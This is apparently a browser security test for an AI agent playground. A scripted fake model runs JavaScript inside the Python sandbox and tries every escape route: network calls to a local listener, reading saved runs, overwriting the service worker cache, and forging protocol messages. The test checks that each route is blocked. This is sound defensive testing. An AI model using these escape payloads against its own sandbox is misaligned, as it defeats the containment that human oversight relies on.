/**
 * The browser wall, attacked for real (issue 11, docs/sandbox-security.md "Browser"): the app is
 * built with PLAYGROUND_PYTHON_POLICY=off, so "model" code (played by a scripted server) runs
 * JavaScript in the sandbox's own realm. It tries every way out: the network (to a listener on
 * 127.0.0.1 that records every connection), the saved runs in IndexedDB, the service worker's
 * cache, storage, service worker registration, and forged protocol messages. Nothing may get
 * through, and the run must go on: tools, interrupts and the next steps work.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import {
  buildApp,
  collectErrors,
  launchChromium,
  startPreview,
  type Chromium,
  type Preview,
} from './helpers/app-server.ts';
import { startFakeOpenAIServer, type FakeOpenAIServer } from '../helpers/fake-openai-server.ts';

const MODEL = 'fake-model';
const DB = 'small-agent-playground-runs';
const DROPPED = 'playground: Dropped a message from the Python sandbox';

interface Listener {
  port: number;
  /** First line of what each connection sent (e.g. "GET /fetch HTTP/1.1"). */
  hits: string[];
  close(): Promise<void>;
}

/** Records every TCP connection, whatever the protocol, and answers as permissively as it can. */
async function startListener(): Promise<Listener> {
  const hits: string[] = [];
  const server: Server = createServer((socket) => {
    let first = true;
    socket.on('data', (d: Buffer) => {
      if (first) hits.push(d.toString('latin1').split('\r\n')[0] ?? '');
      first = false;
      socket.end(
        'HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n' +
          'Cross-Origin-Resource-Policy: cross-origin\r\nContent-Type: text/javascript\r\n' +
          'Content-Length: 2\r\nConnection: close\r\n\r\n;;',
      );
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
  const addr = server.address();
  const port = typeof addr === 'object' && addr ? addr.port : 0;
  return {
    port,
    hits,
    close: () => new Promise((res) => server.close(() => res())),
  };
}

/** What runs synchronously in the sandbox realm: storage, registration, sync network, forgeries. */
function syncBattery(l: string): string {
  return `(() => {
  const out = {};
  const t = (name, f) => {
    try { out[name] = 'REACHED ' + String(f()); } catch (e) { out[name] = 'blocked: ' + (e && e.name); }
  };
  t('indexedDB', () => indexedDB.open('${DB}'));
  t('caches', () => caches.open('workbox-precache-v2'));
  t('localStorage', () => localStorage.getItem('x'));
  t('cookie', () => document.cookie);
  t('serviceWorker', () => navigator.serviceWorker.register('/sw.js'));
  t('importScripts', () => importScripts('${l}/importScripts.js'));
  t('syncXHR', () => { const x = new XMLHttpRequest(); x.open('GET', '${l}/sync-xhr', false); x.send(); return x.status; });
  t('sendBeacon', () => navigator.sendBeacon('${l}/beacon', 'x'));
  t('topWindow', () => top.location.href);
  const forged = [
    { type: 'navigate', url: '${l}/navigate' },
    { type: 'ready', pythonVersion: '3.0', startMs: 0 },
    { type: 'start_failed', error: { code: 'internal', message: 'forged' } },
    { type: 'result', id: 1, result: { status: 'ok', logs: 5 } },
    { type: 'asset_request', reqId: 1, name: '../index.html' },
    { type: 'tool_call', callId: 1, name: 'web_search', args: 'not an object' },
    { type: 'exit', reason: 42 },
  ];
  for (const m of forged) postMessage(m);
  return JSON.stringify(out);
})()`;
}

/** What needs the event loop: it runs after the step returns, and reports to a global. */
function asyncBattery(l: string, app: string, listenerPort: number): string {
  return `(async () => {
  const out = {};
  const within = (p) => Promise.race([p, new Promise((_, rej) => setTimeout(() => rej(new Error('no answer')), 3000))]);
  const t = async (name, f) => {
    try { out[name] = 'REACHED ' + String(await within(f())); } catch (e) { out[name] = 'blocked: ' + ((e && e.name) || e); }
  };
  const viaWorker = (src, opts) => new Promise((res, rej) => {
    const w = new Worker(src, opts);
    w.onmessage = (e) => (e.data === 'ok' ? res('ok') : rej(new Error(e.data)));
    w.onerror = () => rej(new Error('worker error'));
  });
  const nested = "fetch('${l}/nested-worker', { mode: 'no-cors' }).then(() => postMessage('ok'), (e) => postMessage(e.name))";
  await Promise.all([
    t('fetch', () => fetch('${l}/fetch', { mode: 'no-cors' }).then((r) => r.type)),
    t('fetchApp', () => fetch('${app}index.html').then((r) => r.status)),
    t('xhr', () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open('GET', '${l}/xhr'); x.onload = () => res(x.status); x.onerror = () => rej(new Error('xhr error')); x.send(); })),
    t('webSocket', () => new Promise((res, rej) => { const w = new WebSocket('ws://127.0.0.1:${listenerPort}/ws'); w.onopen = () => res('open'); w.onerror = () => rej(new Error('ws error')); })),
    t('eventSource', () => new Promise((res, rej) => { const s = new EventSource('${l}/events'); s.onopen = () => res('open'); s.onerror = () => { s.close(); rej(new Error('es error')); }; })),
    t('dynamicImport', () => import('${l}/import.js')),
    t('nestedWorker', () => viaWorker(URL.createObjectURL(new Blob([nested], { type: 'text/javascript' })))),
    t('dataWorker', () => viaWorker('data:text/javascript,' + encodeURIComponent(nested))),
    t('urlWorker', () => viaWorker('${l}/worker.js')),
    t('indexedDBRead', () => new Promise((res, rej) => { const r = indexedDB.open('${DB}'); r.onsuccess = () => res(String(r.result.objectStoreNames.length)); r.onerror = () => rej(r.error); })),
    t('cacheOverwrite', () => caches.open('workbox-precache-v2').then((c) => c.put('/index.html', new Response('<h1>owned</h1>')))),
    t('opfs', () => navigator.storage.getDirectory()),
    t('webTransport', () => new WebTransport('https://127.0.0.1:${listenerPort}/wt').ready),
  ]);
  return JSON.stringify(out);
})().then((r) => { globalThis.wallResult = r; })`;
}

const step = (thought: string, code: string): string =>
  [`Thought: ${thought}`, '```py', code, '```'].join('\n');

let dir: string;
let preview: Preview;
let chrome: Chromium;
let server: FakeOpenAIServer;
let listener: Listener;
let page: Page;
let errors: string[];
const warnings: string[] = [];

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'sap-wall-'));
  await buildApp(dir, undefined, { PLAYGROUND_PYTHON_POLICY: 'off' });
  [preview, chrome, server, listener] = await Promise.all([
    startPreview(dir),
    launchChromium(),
    startFakeOpenAIServer({ model: MODEL }),
    startListener(),
  ]);
  page = await chrome.context.newPage();
  errors = collectErrors(page);
  page.on('console', (m) => {
    if (m.type() === 'warning') warnings.push(m.text());
  });
}, 300_000);

afterAll(async () => {
  await chrome?.close();
  await preview?.close();
  await server?.close();
  await listener?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

function chatLink(q: string): string {
  const params = new URLSearchParams({
    engine: 'openai',
    baseUrl: server.baseUrl,
    modelName: MODEL,
    q,
    mode: 'agent',
    maxSteps: '10',
    pythonTimeoutS: '3',
    run: '1',
  });
  return `${preview.url}#/chat?${params.toString()}`;
}

async function runQuestion(q: string): Promise<string> {
  await page.goto('about:blank');
  await page.goto(chatLink(q));
  const answer = page.getByTestId('final-answer');
  await answer.waitFor({ timeout: 180_000 });
  return answer.innerText();
}

/** Every saved run, as stored. */
function savedRuns(p: Page): Promise<Record<string, string>> {
  return p.evaluate(
    (name) =>
      new Promise<Record<string, string>>((res, rej) => {
        const r = indexedDB.open(name);
        r.onerror = () => rej(r.error);
        r.onsuccess = () => {
          const get = r.result.transaction('runs').objectStore('runs').getAll();
          get.onerror = () => rej(get.error);
          get.onsuccess = () => {
            const out: Record<string, string> = {};
            for (const run of get.result as { id: string }[]) out[run.id] = JSON.stringify(run);
            res(out);
          };
        };
      }),
    DB,
  );
}

/** The app shell as the service worker's precache holds it. */
function cachedShell(p: Page): Promise<string[]> {
  return p.evaluate(async () => {
    const out: string[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const req of await cache.keys()) {
        if (new URL(req.url).pathname !== '/index.html') continue;
        out.push(`${name} ${req.url} ${await (await cache.match(req))?.text()}`);
      }
    }
    return out;
  });
}

/** The observation the app sent back to the model after step `n` (1-based) of the last run. */
function observation(n: number): string {
  const reqs = server.completionRequests();
  const messages = reqs[reqs.length - 1]?.body.messages as { role: string; content: string }[];
  return messages.find((m) => m.content.startsWith(`Call id: call_${n}\n`))?.content ?? '';
}

describe('the browser wall, with the Python policy off', () => {
  it('keeps hostile JavaScript in the sandbox realm away from the app, and the run goes on', async () => {
    // First visit: the service worker stores the shell; one ordinary run is saved.
    await page.goto(preview.url);
    await page.getByLabel('Question', { exact: true }).waitFor();
    await expect
      .poll(() => page.getByTestId('offline-status').getAttribute('data-state'), {
        timeout: 120_000,
      })
      .toBe('ready');
    server.push(step('compute.', 'final_answer(6 * 7)'));
    expect(await runQuestion('What is 6 times 7?')).toContain('42');
    const runsBefore = await savedRuns(page);
    expect(Object.keys(runsBefore)).toHaveLength(1);
    const shellBefore = await cachedShell(page);
    expect(shellBefore).toHaveLength(1);

    const l = `http://127.0.0.1:${listener.port}`;
    server.push(
      step(
        'escape.',
        [
          'from pyodide.code import run_js',
          `print("SYNC", run_js(r'''${syncBattery(l)}'''))`,
          `run_js(r'''${asyncBattery(l, preview.url, listener.port)}''')`,
          'print("started")',
        ].join('\n'),
      ),
      // The event loop of the sandbox runs the async battery while this reply is on its way.
      { choices: [step('collect.', 'import js\nprint("ASYNC", js.wallResult)')], delayMs: 6000 },
      step('search.', 'print(web_search("Cannes Film Festival"))'),
      step('spin.', 'n = 1\nwhile True:\n    n += 1'),
      step('still here.', 'print("alive", n > 1)'),
      // The worker shuts itself down after this step: the next one ends at the time limit in a
      // restarted interpreter, and the one after works.
      step('vanish.', 'from pyodide.code import run_js\nrun_js("self.close()")\nprint("closing")'),
      step('back?', 'print("back", 40 + 2)'),
      step('back.', 'print("back", 40 + 2)'),
      step('done.', 'final_answer("survived")'),
    );
    expect(await runQuestion('Break out of the sandbox.')).toContain('survived');

    // Every attempt in the realm failed...
    const sync = JSON.parse(/SYNC (\{.*\})/.exec(observation(1))?.[1] ?? 'null') as Record<
      string,
      string
    > | null;
    const late = JSON.parse(/ASYNC (\{.*\})/.exec(observation(2))?.[1] ?? 'null') as Record<
      string,
      string
    > | null;
    expect(sync, observation(1)).not.toBeNull();
    expect(late, observation(2)).not.toBeNull();
    const all = { ...sync, ...late };
    expect(Object.keys(all).length).toBe(22);
    for (const [name, outcome] of Object.entries(all)) expect(outcome, name).toMatch(/^blocked/);
    // ...and the run went on: a tool call, an interrupted loop that kept its state, more steps.
    expect(observation(3)).toContain('web_search');
    expect(observation(4)).toContain('TimeoutError');
    expect(observation(5)).toContain('alive True');
    expect(observation(6)).toContain('closing');
    expect(observation(7)).toContain('the Python interpreter was restarted');
    expect(observation(8)).toContain('back 42');
    // The forged messages were dropped and logged, one warning each.
    expect(warnings.filter((w) => w.startsWith(DROPPED))).toHaveLength(7);

    // Nothing reached the listener, though the browser itself can (the control).
    expect(listener.hits).toEqual([]);
    await page.evaluate((u) => fetch(`${u}/control`, { mode: 'no-cors' }).then(() => 1), l);
    await expect.poll(() => listener.hits).toEqual(['GET /control HTTP/1.1']);

    // The saved runs are intact, the shell in the cache is the one built, the service worker
    // is the app's, and a reload serves the real app.
    const runsAfter = await savedRuns(page);
    for (const [id, run] of Object.entries(runsBefore)) expect(runsAfter[id]).toBe(run);
    expect(Object.keys(runsAfter)).toHaveLength(2);
    expect(await cachedShell(page)).toEqual(shellBefore);
    const registrations = await page.evaluate(async () =>
      (await navigator.serviceWorker.getRegistrations()).map((r) => r.active?.scriptURL),
    );
    expect(registrations).toEqual([`${preview.url}sw.js`]);
    await page.reload();
    await page.getByLabel('Question', { exact: true }).waitFor();
    expect(await page.content()).not.toContain('owned');
    expect(errors).toEqual([]);
  }, 400_000);
});
